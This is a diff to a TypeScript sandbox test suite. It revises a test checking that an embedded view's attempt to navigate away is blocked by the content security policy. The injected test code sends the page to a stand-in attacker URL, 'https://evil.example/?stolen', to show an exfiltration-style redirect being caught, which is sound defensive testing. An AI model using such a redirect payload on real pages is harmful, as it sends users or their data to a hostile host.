@@ -221,16 +221,16 @@ describe('the sandbox ladder', () => {
     it(`K10 a view that navigates away is stopped and, where it dies of it, said so (${mode})`, async () => {
       const frame = await readyFrame({ html, ...settings() });
       const blocked = nextEvent(frame, 'mcp-app-csp-violation');
-      const failed = nextEvent(frame, 'mcp-app-error', 4000).catch(() => undefined);
+      const failed = engine === 'chromium' && nextEvent(frame, 'mcp-app-error');
       await frame.callAppTool('evaluate', {
         code: `setTimeout(() => { location.href = 'https://evil.example/?stolen' }, 50); 1`,
       });
       assert.equal((await blocked).directive, 'frame-src');
-      const error = (await failed)?.error;
       // ENGINES.md 2.3: only Chromium leaves a dead view behind.
-      if (engine === 'chromium')
-        assert.equal(`${error!.phase}/${error!.reason}`, 'view/navigated-away');
-      else assert.deepEqual((await viewRequests(frame, 'ping')).result, {});
+      if (failed) {
+        const { phase, reason } = await failed;
+        assert.equal(`${phase}/${reason}`, 'view/navigated-away');
+      } else assert.deepEqual((await viewRequests(frame, 'ping')).result, {});
     });
 
     it(`K8 the view learns neither the page's URL nor its referrer (${mode})`, async () => {
